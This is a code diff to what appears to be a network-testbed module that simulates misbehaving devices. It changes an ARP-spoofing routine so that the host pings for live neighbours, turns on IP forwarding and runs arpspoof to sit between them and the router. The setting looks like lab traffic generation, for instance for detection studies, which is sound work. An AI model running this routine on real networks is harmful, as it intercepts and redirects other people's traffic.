@@ -1,5 +1,6 @@
 """Devices that are not what they should be: another's address, a stranger on the wire, one that falls silent."""
 
+import itertools
 import signal
 import socket
 import time
@@ -18,7 +19,12 @@ def arp_spoofing(w: Work, intensity: str) -> None:
     """This host says that it were the router and its neighbours (arpspoof) and passes on what it gets: three neighbours for
     60 s, one for 60 s, or one three times for 10 s."""
     near = [host for host in HOSTS.values() if host.subnet is w.host.subnet and host is not w.host and not host.absent]
-    victims = w.rng.sample(near, by(intensity, 3, 1, 1))
+    router = f"{w.host.subnet.v4}.1"
+    w.rng.shuffle(near)
+    # arpspoof wants hardware addresses that are known: it takes those who answer.
+    w.run("ping", "-n", "-c", 1, "-W", 1, router)
+    alive = (host for host in near if w.run("ping", "-n", "-c", 1, "-W", 1, host.v4, good=(0, 1)).returncode == 0)
+    victims = list(itertools.islice(alive, by(intensity, 3, 1, 1)))
     rounds, seconds = by(intensity, (1, 60), (1, 60), (3, 10))
     _FORWARDING.write_text("1")
     _REDIRECTS.write_text("0")
@@ -26,7 +32,7 @@ def arp_spoofing(w: Work, intensity: str) -> None:
         for turn in range(rounds):
             if turn and not w.sleep(300):
                 return
-            tools = [w.start("arpspoof", "-i", "eth0", "-t", victim.v4, "-r", f"{victim.subnet.v4}.1") for victim in victims]
+            tools = [w.start("arpspoof", "-i", "eth0", "-t", victim.v4, "-r", router) for victim in victims]
             w.pause(seconds)
             for each in tools:
                 # Told so, it puts the addresses right again, which takes some seconds.
